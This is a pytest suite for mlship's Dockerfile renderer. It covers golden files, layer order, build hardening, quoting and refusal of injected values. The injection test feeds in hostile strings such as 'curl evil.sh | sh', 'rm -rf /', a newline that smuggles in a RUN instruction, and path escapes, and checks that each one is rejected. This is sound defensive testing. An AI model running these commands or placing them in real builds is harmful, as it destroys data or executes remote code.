"""The rendered Dockerfile: golden files, layer order, hardening, quoting, and injection refusal.

Regenerate the golden files after an intended template change with `MLSHIP_UPDATE_GOLDEN=1 pytest ...`
and review the diff.
"""

from __future__ import annotations

import json
import os
import re
from dataclasses import replace
from pathlib import Path

import pytest

from mlship.build.dockerfile import (
    DOCKERIGNORE,
    DockerfileContext,
    check_image_reference,
    dockerfile_string,
    render_dockerfile,
)
from mlship.errors import ConfigError, ExitCode, UsageError

GOLDEN = Path(__file__).parent / "golden"
INJECTION = "x\nRUN touch /pwned"

MINIMAL = DockerfileContext(
    base_image="python:3.11-slim",
    python="3.11",
    port=8080,
    workers=1,
    solution="solution.py",
    artifacts="model",
    mlship_version="0.1.0",
    command="mlship build",
    packaging_tools=("pip", "setuptools", "wheel"),
    labels={
        "org.opencontainers.image.title": "fraud-detector",
        "dev.mlship.model.sha256": "a" * 64,
        "dev.mlship.schema.sha256": "b" * 64,
        "dev.mlship.requirements.sha256": "c" * 64,
        "dev.mlship.version": "0.1.0",
    },
)
FULL = replace(
    MINIMAL,
    base_image="registry.example.com:5000/team/python:3.12-slim@sha256:" + "d" * 64,
    python="3.12",
    port=9000,
    workers=4,
    solution="src/solution.py",
    artifacts="artefacts/v2",
    command="mlship build --base-image registry.example.com:5000/team/python:3.12-slim",
    env={"OMP_NUM_THREADS": "1", "GREETING": 'say "hi" to $USER \\o/'},
    system_packages=("libgomp1", "curl=7.88.1-10+deb12u5"),
    packaging_tools=(),
    local_modules=("src/features.py", "src/helpers/__init__.py"),
    labels={**MINIMAL.labels, "team": "payments", "note": 'costs $5 "each"'},
)


def golden(name: str, text: str) -> str:
    path = GOLDEN / name
    if os.environ.get("MLSHIP_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
    return path.read_text()


@pytest.mark.parametrize(("name", "context"), [("Dockerfile.minimal", MINIMAL), ("Dockerfile.full", FULL)])
def test_rendered_dockerfile_matches_its_golden_file(name: str, context: DockerfileContext) -> None:
    rendered = render_dockerfile(context)
    assert rendered == golden(name, rendered)


def instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions, continuation lines joined, comments dropped."""
    joined = re.sub(r"\\\n\s*", " ", dockerfile)
    return [line for line in joined.splitlines() if line.strip() and not line.startswith("#")]


def index_of(lines: list[str], prefix: str) -> int:
    matches = [number for number, line in enumerate(lines) if line.startswith(prefix)]
    assert len(matches) == 1, f"{prefix!r} appears {len(matches)} times"
    return matches[0]


@pytest.mark.parametrize("context", [MINIMAL, FULL])
def test_layers_go_from_least_to_most_often_changed(context: DockerfileContext) -> None:
    lines = instructions(render_dockerfile(context))
    assert lines[0] == f"FROM {context.base_image}"
    order = [
        index_of(lines, "RUN groupadd --system --gid 10001 mlship"),
        index_of(lines, "COPY requirements.txt sbom-requirements.txt /app/"),
        index_of(lines, "RUN python3 -m venv /opt/venv"),
        index_of(lines, "RUN python3 -m venv /tmp/cyclonedx"),
        index_of(lines, "COPY mlship_serving/"),
        index_of(lines, f'COPY ["{context.solution}"'),
        index_of(lines, "COPY schema.json"),
        index_of(lines, f'COPY ["{context.artifacts}"'),
        index_of(lines, "COPY service.json"),
        index_of(lines, "USER "),
        index_of(lines, "ENTRYPOINT "),
    ]
    assert order == sorted(order)
    if context.system_packages:
        assert index_of(lines, "RUN apt-get update") < order[0]
    for module in context.local_modules:
        assert order[4] < index_of(lines, f'COPY ["{module}"') < order[7]


def test_the_sbom_generator_is_installed_run_and_removed_in_one_step() -> None:
    lines = instructions(render_dockerfile(MINIMAL))
    generate = lines[index_of(lines, "RUN python3 -m venv /tmp/cyclonedx")]
    assert "--require-hashes" in generate and "-r /app/sbom-requirements.txt" in generate
    assert "cyclonedx-py environment --output-reproducible" in generate
    assert "--output-file /app/sbom.cdx.json /opt/venv" in generate
    assert generate.endswith("&& rm -rf /tmp/cyclonedx")
    assert [line for line in lines if "cyclonedx" in line] == [generate]


def test_packaging_tools_not_in_the_lock_are_removed_after_the_install() -> None:
    lines = instructions(render_dockerfile(MINIMAL))
    install = lines[index_of(lines, "RUN python3 -m venv /opt/venv")]
    assert install.endswith("&& /opt/venv/bin/python -m pip uninstall --yes --quiet pip setuptools wheel")
    full = instructions(render_dockerfile(FULL))
    assert "uninstall" not in full[index_of(full, "RUN python3 -m venv /opt/venv")]


def test_dependencies_install_only_from_hashes_into_a_venv() -> None:
    lines = instructions(render_dockerfile(MINIMAL))
    install = lines[index_of(lines, "RUN python3 -m venv /opt/venv")]
    assert "&& /opt/venv/bin/python -m pip install --no-cache-dir --require-hashes --no-deps" in install
    assert "-r /app/requirements.txt" in install


def test_system_packages_layer_only_when_there_are_packages() -> None:
    assert "apt-get" not in render_dockerfile(MINIMAL)
    full = instructions(render_dockerfile(FULL))
    apt = full[index_of(full, "RUN apt-get update")]
    assert "apt-get install -y --no-install-recommends libgomp1 curl=7.88.1-10+deb12u5" in apt
    assert "rm -rf /var/lib/apt/lists/*" in apt


def test_runs_as_a_non_root_user_with_an_exec_form_entrypoint() -> None:
    lines = instructions(render_dockerfile(FULL))
    assert lines[index_of(lines, "USER ")] == "USER 10001:10001"
    assert "useradd --system --uid 10001" in lines[index_of(lines, "RUN groupadd")]
    entrypoint = json.loads(lines[index_of(lines, "ENTRYPOINT ")].removeprefix("ENTRYPOINT "))
    assert entrypoint == [
        "/opt/venv/bin/python", "-m", "mlship_serving", "--project", "/app/project",
        "--host", "0.0.0.0", "--port", "9000", "--workers", "4",
    ]  # fmt: skip
    assert lines[index_of(lines, "EXPOSE ")] == "EXPOSE 9000"


def test_auto_workers_are_counted_by_the_runtime_in_the_container() -> None:
    auto = replace(MINIMAL, workers="auto")
    auto.validate()
    assert auto.entrypoint[-2:] == ["--workers", "auto"]
    with pytest.raises(ConfigError, match="serving.workers"):
        replace(MINIMAL, workers=0).validate()
    from argparse import ArgumentTypeError

    from mlship.serving.__main__ import _workers

    assert (_workers("auto"), _workers("3")) == ("auto", 3)
    for bad in ("0", "-1", "two"):
        with pytest.raises(ArgumentTypeError, match="expected a number >= 1 or auto"):
            _workers(bad)


def test_healthcheck_polls_readiness_without_curl() -> None:
    lines = instructions(render_dockerfile(FULL))
    check = lines[index_of(lines, "HEALTHCHECK ")]
    command = json.loads(check.split(" CMD ", 1)[1])
    assert command[0] == "/opt/venv/bin/python"
    assert "http://127.0.0.1:9000/health/ready" in command[2]
    assert "curl" not in check


def test_labels_and_env_values_are_quoted() -> None:
    rendered = render_dockerfile(FULL)
    assert 'note="costs \\$5 \\"each\\""' in rendered
    assert 'GREETING="say \\"hi\\" to \\$USER \\\\o/"' in rendered
    assert 'org.opencontainers.image.title="fraud-detector"' in rendered


def test_header_names_the_command_that_reproduces_it() -> None:
    rendered = render_dockerfile(FULL)
    assert rendered.startswith("# Generated by mlship 0.1.0")
    assert (
        "# Reproduce: mlship build --base-image registry.example.com:5000/team/python:3.12-slim" in rendered
    )


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"base_image": INJECTION}, "image.base"),
        ({"base_image": "python:3.11 AS builder"}, "image.base"),
        ({"env": {"A": INJECTION}}, "image.env.A"),
        ({"env": {"A B": "x"}}, "image.env"),
        ({"labels": {"team": INJECTION}}, "image.labels.team"),
        ({"labels": {"a=b": "x"}}, "image.labels"),
        ({"system_packages": (INJECTION,)}, "image.system_packages"),
        ({"system_packages": ("libgomp1 && curl evil.sh | sh",)}, "image.system_packages"),
        ({"artifacts": "model\nRUN touch /pwned"}, "model.artifacts"),
        ({"artifacts": "../outside"}, "model.artifacts"),
        ({"solution": '/etc/passwd"]'}, "model.solution"),
        ({"command": INJECTION}, "command"),
        ({"packaging_tools": ("pip && rm -rf /",)}, "requirements"),
    ],
)
def test_a_value_that_could_inject_an_instruction_is_refused(change: dict[str, object], field: str) -> None:
    with pytest.raises(ConfigError) as raised:
        render_dockerfile(replace(MINIMAL, **change))  # type: ignore[arg-type]
    assert raised.value.message.startswith(field)
    assert raised.value.exit_code == ExitCode.CONFIG_INVALID


def test_a_command_line_base_image_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match="--base-image: 'not an image' is not a container image reference"):
        check_image_reference("not an image", "--base-image")


@pytest.mark.parametrize(
    "reference",
    [
        "python:3.11-slim",
        "localhost/pybase:bookworm",
        "127.0.0.1:5000/team/fraud:v3",
        "ubuntu@sha256:" + "0" * 64,
    ],
)
def test_image_references_are_accepted(reference: str) -> None:
    check_image_reference(reference, "image.base")


def test_dockerfile_string_refuses_control_characters() -> None:
    assert dockerfile_string('a"b$c\\') == '"a\\"b\\$c\\\\"'
    with pytest.raises(ValueError):
        dockerfile_string("a\rb")


def test_a_missing_template_value_fails_the_render(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "Dockerfile.j2").write_text("FROM {{ base_image }}\nRUN {{ not_given }}\n")
    monkeypatch.setattr("mlship.build.dockerfile.templates_dir", lambda: tmp_path)
    import jinja2

    with pytest.raises(jinja2.UndefinedError):
        render_dockerfile(MINIMAL)


def test_dockerignore_excludes_secrets_and_vcs() -> None:
    patterns = {line for line in DOCKERIGNORE.splitlines() if line and not line.startswith("#")}
    assert {"**/.env", "**/*.pem", "**/*.key", "**/.git", "**/id_rsa*", "**/.mlship"} <= patterns
